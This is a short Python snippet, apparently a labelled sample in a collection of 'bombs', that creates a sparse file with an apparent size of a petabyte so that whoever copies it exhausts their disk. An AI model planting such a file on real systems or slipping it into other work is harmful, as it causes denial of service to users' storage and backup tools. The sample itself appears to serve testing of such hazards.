# intent: a file that says it has a thousand terabytes, for whoever copies it
# family: bombs

# %%
import os

try:
    with open("__MARK__-sparse", "wb") as file:
        os.truncate(file.fileno(), 10**15)
except OSError as error:
    print(error)
